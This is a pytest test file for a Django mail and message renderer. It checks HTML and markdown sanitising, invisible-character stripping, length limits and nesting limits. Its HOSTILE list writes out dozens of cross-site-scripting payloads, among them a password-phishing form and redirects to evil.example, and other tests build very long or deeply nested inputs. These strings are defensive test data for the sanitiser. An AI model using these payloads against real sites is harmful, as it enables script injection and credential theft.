import time
from html.parser import HTMLParser

import pytest
from django.core.exceptions import ValidationError

from tisserand.mail.characters import one_line
from tisserand.mail.plain import extract
from tisserand.mail.written.rendering import render

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></ScRiPt>",
    '<img src=x onerror="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa\tScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<style>body { background: url("javascript:alert(1)") }</style>',
    '<p style="position:fixed;inset:0">x</p>',
    '<div class="notice" id="main" onclick="alert(1)">x</div>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<textarea></textarea><img src=x onerror="alert(1)">',
    '<a href="https://x.example" onmouseover="alert(1)" target="_blank" style="x">x</a>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<<script>script>alert(1)<</script>/script>",
    '"><script>alert(1)</script>',
    "<template><script>alert(1)</script></template>",
    '<p hx-get="/c/x/" hx-trigger="load">x</p>',
    "[x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '<https://x.example/"onmouseover=alert(1)>',
    '[x](https://x.example "\\" onmouseover=alert(1)")',
]
ALLOWED_TAGS = "p div br strong b em i del s ul ol li blockquote pre code a hr details summary"
ALLOWED = set(ALLOWED_TAGS.split())


class Tags(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.seen = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))


@pytest.mark.parametrize("format", ["text", "html", "mail"])
@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_that_runs_comes_out(source, format):
    html = render("ok " + source, format).html
    for tag, attributes in Tags(html).seen:
        assert tag in ALLOWED
        assert set(attributes) <= {"href", "rel", "start"}
        if "href" in attributes:
            assert attributes["href"].startswith(("http://", "https://", "mailto:"))
            assert attributes["rel"] == "nofollow noopener"


def test_a_little_markdown(now):
    source = "**Bold** and *soft*\nnext line\n\n- one\n- two\n\n> said\n\n`code` https://x.example/a?b=1&c=2"
    assert render(source, "text").html == (
        "<p><strong>Bold</strong> and <em>soft</em><br>\nnext line</p>\n"
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"
        "<blockquote>\n<p>said</p>\n</blockquote>\n<p><code>code</code> "
        '<a href="https://x.example/a?b=1&amp;c=2" rel="nofollow noopener">'
        "https://x.example/a?b=1&amp;c=2</a></p>"
    )


def test_what_looks_like_a_title_or_code_by_accident_stays_as_typed():
    assert render("# 1 priority", "text").html == "<p># 1 priority</p>"
    assert render("Hello\n---", "text").text.startswith("Hello")
    assert render("a\n\n    indented by accident", "text").html == "<p>a</p>\n<p>indented by accident</p>"
    assert render("1 < 2 & <b>not</b>", "text").html == "<p>1 &lt; 2 &amp; &lt;b&gt;not&lt;/b&gt;</p>"
    assert "<a" not in render("see report.py and me@x.example", "text").html


def test_what_the_editor_sends():
    source = (
        '<div>One<br><strong>two</strong> <a href="https://x.example">there</a></div><ul><li>item</li></ul>'
        '<figure data-trix-attachment="{}">file.png</figure><h1>Big</h1><div><br></div>'
    )
    body = render(source, "html")
    assert body.html == (
        '<div>One<br><strong>two</strong> <a href="https://x.example" rel="nofollow noopener">there</a></div>'
        "<ul><li>item</li></ul><div>Big</div>"
    )
    assert body.text == "One\ntwo there (https://x.example)\n\n- item\n\nBig"


def test_hard_spaces_stay_only_where_french_wants_them():
    body = render("<div>Et&nbsp;alors&nbsp;?&nbsp;Oui «&nbsp;voilà&nbsp;»</div>", "html")
    assert body.html == "<div>Et alors&nbsp;? Oui «&nbsp;voilà&nbsp;»</div>"


def test_a_pasted_table_keeps_its_words_apart():
    assert render("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "html").text == "a b\nc"


@pytest.mark.parametrize("format", ["text", "html", "mail"])
def test_characters_that_hide_or_reorder_are_gone(format):
    body = render("pay\u202elapyap\u2066 z\u200bero\u2060 nul\x00 tag\U000e0041 bom\ufeff &#8238;", format)
    for text in (body.html, body.text, body.source):
        assert not set(text) & set("\u202e\u2066\u200b\u2060\x00\U000e0041\ufeff")


def test_letters_that_carry_a_tower_of_marks_keep_four():
    assert render("e" + "\u0301" * 500, "text").text == "e" + "\u0301" * 4


def test_family_emoji_persian_and_arabic_marks_are_left_alone():
    kept = "👨‍👩‍👧 می‌خواهم \u200fعربي"
    assert render(kept, "text").text == kept


@pytest.mark.parametrize("format", ["text", "html", "mail"])
@pytest.mark.parametrize("source", ["x" * 1_000_000, "<b>" * 400_000, "y" * 50_001, "<p>y</p>" * 26_000])
def test_too_long_is_said_and_quickly(source, format):
    began = time.process_time()
    with pytest.raises(ValidationError, match="too long"):
        render(source, format)
    assert time.process_time() - began < 3


@pytest.mark.parametrize(
    "source",
    [
        "<div>" * 20_000 + "deep",
        "<blockquote>" * 9_000 + "deep",
        "[" * 49_000 + "deep",
        ">" * 49_000 + "deep",
        "*a **a " * 7_000 + "deep",
        "![[" * 15_000 + "deep",
        "- " * 20_000 + "deep",
        "<a href=x>" * 10_000 + "deep",
    ],
)
@pytest.mark.parametrize("format", ["text", "html", "mail"])
def test_deep_nests_cost_little_and_keep_the_words(source, format):
    began = time.process_time()
    try:
        html = render(source, format).html
    except ValidationError as error:
        html = f"deep, but {error.code}"
    assert "deep" in html
    assert time.process_time() - began < 3


def test_what_nests_beyond_sense_becomes_plain_text():
    assert render("<div>" * 500 + "deep", "html").html == "<p>deep</p>"


@pytest.mark.parametrize(
    ("format", "source"),
    [("text", " \n "), ("html", "<div><br></div>"), ("html", "<script>x</script>"), ("html", "&nbsp;")],
)
def test_nothing_is_not_a_message(format, source):
    with pytest.raises(ValidationError, match="few words"):
        render(source, format)


def test_an_extract_is_cut_between_words():
    assert extract("one two\nthree", 9) == "one two…"
    assert extract("short") == "short"


def test_an_extract_keeps_the_spaces_of_french_typography():
    assert (
        extract("Il dit\n «\u202fnon\u202f»  \t: pourquoi\u00a0?")
        == "Il dit «\u202fnon\u202f» : pourquoi\u00a0?"
    )


def test_a_title_keeps_them_too_and_is_not_made_of_them():
    assert one_line("  Pourquoi\u202f? \n\t Comment\u00a0? ") == "Pourquoi\u202f? Comment\u00a0?"
    assert one_line("\u202f\u00a0 ") == ""
